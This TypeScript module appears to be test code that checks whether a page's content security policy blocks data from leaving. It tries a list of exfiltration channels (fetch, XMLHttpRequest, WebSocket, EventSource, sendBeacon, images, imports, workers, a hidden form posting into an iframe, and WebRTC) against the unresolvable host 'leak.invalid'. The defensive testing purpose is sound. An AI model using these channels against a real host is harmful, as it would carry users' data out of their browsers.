// "Try to leak": the ways in which a page could send something, really tried, towards a host that cannot exist.
//
// That an attempt fails proves nothing, for the host is not there. What proves it is that the browser reports a
// violation of the page's policy; so attempts are made one after the other, and each is told by its own.

/** A host that no name server knows: RFC 2606 keeps it so. */
const HOST = "leak.invalid";
const NOWHERE = `https://${HOST}/`;

/** The way that not every browser's policy covers. */
const WEBRTC = "WebRTC";

/**
 * What the policy can forbid a way by. Of a form Chromium tells twice, first of itself and then of the frame that it
 * would be shown in: that comes late, and says nothing of what is tried by then.
 */
const FORBIDDEN: Record<string, RegExp> = {
  image: /^img/,
  import: /^script/,
  worker: /^(worker|script|require-trusted)/,
  form: /^(form|frame)/,
  [WEBRTC]: /^webrtc/,
};

/** How long a violation may take to be reported, in milliseconds. */
const PATIENCE = 1500;

export interface Attempt {
  way: string;
  /** What the policy forbids it by; empty where the browser named nothing. */
  directive: string;
  /** It failed, though the browser did not say that the policy was why. */
  failed: boolean;
  /** No policy covers it in this browser; it was tried without anybody at the other end. */
  uncovered?: boolean;
}

export interface LeakTest {
  attempts: Attempt[];
  /** Requests since the page or the worker began, without the attempts. */
  requests: number;
}

type Ways = Record<string, () => unknown>;

/** What can be tried in the page and in a worker alike. */
const common: Ways = {
  fetch: () => fetch(NOWHERE, { method: "POST", body: "leak", mode: "no-cors" }),
  XMLHttpRequest: () =>
    new Promise((sent, failed) => {
      const request = new XMLHttpRequest();
      request.onload = sent;
      request.onerror = failed;
      request.open("POST", NOWHERE);
      request.send("leak");
    }),
  WebSocket: () =>
    new Promise((sent, failed) => {
      const socket = new WebSocket(`wss://${HOST}/`);
      socket.onopen = sent;
      socket.onerror = failed;
    }),
  EventSource: () =>
    new Promise((sent, failed) => {
      const source = new EventSource(NOWHERE);
      source.onopen = sent;
      source.onerror = () => {
        source.close();
        failed();
      };
    }),
};

const inPage: Ways = {
  ...common,
  sendBeacon: () => navigator.sendBeacon(NOWHERE, "leak"),
  image: () =>
    new Promise((sent, failed) => {
      const image = new Image();
      image.onload = sent;
      image.onerror = failed;
      image.src = `${NOWHERE}?leak`;
    }),
  import: () => import(NOWHERE as string),
  worker: () => new Worker(NOWHERE),
  form: () => {
    const frame = document.createElement("iframe");
    frame.name = "leak";
    frame.hidden = true;
    const form = document.createElement("form");
    form.action = NOWHERE;
    form.method = "post";
    form.target = frame.name;
    form.hidden = true;
    document.body.append(frame, form);
    form.submit();
    setTimeout(() => {
      frame.remove();
      form.remove();
    }, PATIENCE);
  },
  // To nobody: where no policy covers it, a host's name would be asked for, which is more than nothing.
  [WEBRTC]: async () => {
    const connection = new RTCPeerConnection();
    connection.createDataChannel("leak");
    await connection.setLocalDescription(await connection.createOffer());
    connection.close();
  },
};

const inWorker: Ways = {
  ...common,
  worker: () => new Worker(NOWHERE),
};

/** Tries every way that is there; `in` says whether this is the page or a worker. */
export async function tryToLeak(where: "page" | "worker"): Promise<LeakTest> {
  const attempts: Attempt[] = [];
  for (const [way, go] of Object.entries(where === "page" ? inPage : inWorker)) {
    attempts.push(await attempt(way, go));
  }
  return { attempts, requests: requests() };
}

async function attempt(way: string, go: () => unknown): Promise<Attempt> {
  let stopWaiting = (): void => undefined;
  const listener = { directive: "" };
  const hear = (event: Event) => {
    const { effectiveDirective } = event as SecurityPolicyViolationEvent;
    if (!(FORBIDDEN[way] ?? /^connect/).test(effectiveDirective)) return;
    listener.directive = effectiveDirective;
    stopWaiting();
  };
  addEventListener("securitypolicyviolation", hear);
  let failed = false;
  const tried = (async () => go())().catch(() => (failed = true));
  const heard = new Promise<void>((done) => (stopWaiting = done));
  // The violation is reported shortly before or after the attempt ends, so that alone ends the waiting.
  await Promise.race([heard, Promise.all([tried, pause(PATIENCE)])]);
  removeEventListener("securitypolicyviolation", hear);
  const { directive } = listener;
  return { way, directive, failed, ...(way === WEBRTC && !directive && !failed && { uncovered: true }) };
}

/** Requests that were made since the page or the worker began, as far as the browser lists them. */
export function requests(): number {
  return performance.getEntriesByType("resource").filter(({ name }) => {
    const url = new URL(name, NOWHERE);
    return ["http:", "https:", "ws:", "wss:"].includes(url.protocol) && url.hostname !== HOST;
  }).length;
}

/** Whether this browser has WebRTC on a page, which no policy covers. */
export function hasWebRtc(): boolean {
  return "RTCPeerConnection" in globalThis;
}

function pause(milliseconds: number): Promise<void> {
  return new Promise((done) => setTimeout(done, milliseconds));
}
